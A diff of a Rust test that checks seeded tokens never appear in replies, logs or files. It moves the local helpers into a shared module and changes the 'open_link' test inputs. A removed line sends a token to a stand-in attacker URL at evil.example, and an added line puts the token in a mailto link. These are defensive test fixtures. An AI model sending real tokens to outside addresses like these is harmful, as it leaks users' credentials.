@@ -1,13 +1,13 @@
 //! No secret leaves the vault: not to the page, not to the disk, not to the log.
 
 use std::collections::BTreeSet;
-use std::fs;
 use std::io::{self, Write};
-use std::path::Path;
+use std::path::PathBuf;
 use std::sync::{Arc, Mutex, PoisonError};
 use std::time::Duration;
 
 use journeys::World;
+use journeys::traces::{files_with, forms_of, holds};
 use journeys::world::of;
 use make_sandbox::{Fault, FaultKind, Size};
 use mandor_core::rpc;
@@ -112,7 +112,8 @@ fn arguments(name: &str, world: &World, row: &ScenarioRow, entry: &Value) -> Vec
         ],
         "open_link" => vec![
             json!({ "url": "https://eu1.make.com/user/api" }),
-            json!({ "url": format!("https://evil.example/?t={}", zone.token) }),
+            json!({ "url": "https://evil.example/" }),
+            json!({ "url": format!("mailto:{}", zone.token) }),
         ],
         "get_sign_in"
         | "open_sign_in_again"
@@ -175,48 +176,17 @@ async fn no_secret_is_in_any_reply_event_file_or_log_line() {
     let said = said.join("\n");
     let log = log.0.lock().unwrap_or_else(PoisonError::into_inner);
     assert!(log.len() > 10_000, "the log was really written");
-    for secret in secrets {
-        assert!(!said.contains(&secret), "in a reply or event");
-        assert!(!holds(&log, &secret), "in the log");
-        assert!(!folder_holds(world.folder(), &secret), "in a file");
+    for secret in &secrets {
+        assert!(!said.contains(secret), "in a reply or event");
+        assert!(!holds(&log, secret), "in the log");
     }
+    let secrets: Vec<String> = secrets.into_iter().collect();
+    let files = files_with(world.folder(), &secrets, |_| false).unwrap();
+    assert_eq!(files, [] as [PathBuf; 0], "in a file");
 }
 
-/// Every seeded token as it is, in its first twelve characters, and in Base64.
+/// Every seeded token in every form.
 fn seeded(world: &World) -> BTreeSet<String> {
     let tokens = world.ready().zones.iter().map(|zone| zone.token.as_str());
-    tokens
-        .flat_map(|token| [token.to_owned(), token[..12].to_owned(), base64(token)])
-        .collect()
-}
-
-fn base64(text: &str) -> String {
-    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    // Whole groups only: the last letters would depend on what follows the token.
-    text.as_bytes()
-        .chunks_exact(3)
-        .flat_map(|part| {
-            let bits = part
-                .iter()
-                .fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
-            [18, 12, 6, 0].map(|shift| char::from(LETTERS[bits >> shift & 63]))
-        })
-        .collect()
-}
-
-fn holds(bytes: &[u8], needle: &str) -> bool {
-    bytes
-        .windows(needle.len())
-        .any(|part| part == needle.as_bytes())
-}
-
-fn folder_holds(folder: &Path, needle: &str) -> bool {
-    fs::read_dir(folder).unwrap().any(|entry| {
-        let path = entry.unwrap().path();
-        if path.is_dir() {
-            folder_holds(&path, needle)
-        } else {
-            holds(&fs::read(path).unwrap(), needle)
-        }
-    })
+    tokens.flat_map(forms_of).collect()
 }
